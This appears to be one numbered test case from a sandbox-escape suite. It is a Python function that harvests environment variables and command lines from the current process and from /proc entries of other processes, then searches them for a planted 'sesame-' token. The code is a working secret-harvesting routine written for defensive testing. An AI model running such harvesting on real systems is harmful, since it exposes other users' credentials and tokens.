# ruff: noqa
# fmt: off
# attack 30: read secrets in the environments of processes; calls, stdio, test_code; wrong
import re

def find(text):
    there = re.search("sesame-[0-9a-f]{32}", text)
    return there and there[0]


import ctypes, os
def f(x):
    seen = [repr(dict(os.environ))]
    try:
        libc = ctypes.CDLL(None)
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        n = 0
        while environ and environ[n]:
            seen.append(environ[n].decode("latin1"))
            n += 1
    except Exception:
        pass
    for pid in ["self", *range(1, 2000)]:
        for name in ("environ", "cmdline", "task/1/environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    seen.append(file.read().decode("latin1"))
            except OSError:
                pass
    return next((s for s in map(find, seen) if s), "nothing")
